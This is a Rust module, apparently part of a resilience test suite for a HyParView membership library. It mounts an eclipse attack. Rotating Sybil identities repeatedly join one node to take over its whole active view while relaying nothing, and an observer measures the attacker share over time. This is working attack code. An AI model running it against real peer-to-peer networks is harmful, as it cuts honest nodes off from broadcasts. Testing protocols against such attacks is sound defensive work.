//! Eclipse: fresh identities join one honest node, again and again, to own its whole active view.
//!
//! HyParView accepts every `Join` (and every high-priority `Neighbour` request), evicting an active
//! peer to make room. `IDENTITIES` attackers join at once; whenever the target evicts one, a new
//! identity joins in its place, alternating `Join` and high-priority `Neighbour`. The attackers answer
//! pings and relay nothing: a node whose neighbours are all theirs hears no honest broadcast.
//!
//! Every second a separate identity asks the target for its views and counts the active peers on the
//! attackers' address: the report has the largest share seen and the share at the end.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use dotray_membership::NodeState;
use tokio::time::Instant;

use crate::sybil::{Sybil, is_attackers};
use crate::{Report, Result};

/// Attacker identities joined at any time: the size of a default active view.
const IDENTITIES: usize = 5;
/// Pause before an evicted attacker joins again under a new identity.
const REJOIN_DELAY: Duration = Duration::from_millis(100);

/// Runs the attack against `target` until `deadline`.
pub async fn run(target: SocketAddr, deadline: Instant, report: &mut Report) -> Result<()> {
    let joins = Arc::new(AtomicU64::new(0));
    let evictions = Arc::new(AtomicU64::new(0));
    let mut tasks = Vec::new();
    for slot in 0..IDENTITIES {
        let (joins, evictions) = (joins.clone(), evictions.clone());
        tasks.push(tokio::spawn(async move {
            let mut high_priority = slot % 2 == 0;
            while Instant::now() < deadline {
                high_priority = !high_priority;
                let Some(mut sybil) = Sybil::join(target, high_priority).await else {
                    tokio::time::sleep(REJOIN_DELAY).await;
                    continue;
                };
                joins.fetch_add(1, Ordering::Relaxed);
                if sybil.serve_until(deadline).await {
                    evictions.fetch_add(1, Ordering::Relaxed);
                }
                sybil.close().await;
                tokio::time::sleep(REJOIN_DELAY).await;
            }
        }));
    }
    let (mut worst, mut last) = (0.0f64, 0.0f64);
    let mut observer: Option<Sybil> = None;
    while Instant::now() + Duration::from_secs(1) < deadline {
        tokio::time::sleep(Duration::from_secs(1)).await;
        if observer.is_none() {
            observer = Sybil::connect(target).await.ok();
        }
        let Some(watcher) = observer.as_mut() else { continue };
        let Ok(nodes) = watcher.query().await else {
            if let Some(old) = observer.take() {
                old.close().await;
            }
            continue;
        };
        let active: Vec<_> =
            nodes.iter().filter(|n| matches!(n.state, NodeState::Active | NodeState::Suspect)).collect();
        let theirs = active.iter().filter(|n| is_attackers(&n.peer.addr)).count();
        if !active.is_empty() {
            last = theirs as f64 / active.len() as f64;
            worst = worst.max(last);
        }
    }
    if let Some(watcher) = observer {
        watcher.close().await;
    }
    for task in tasks {
        let _ = task.await;
    }
    report.add("joins", joins.load(Ordering::Relaxed));
    report.add("evicted", evictions.load(Ordering::Relaxed));
    report.set_f64("attacker_share_max", worst);
    report.set_f64("attacker_share_end", last);
    Ok(())
}
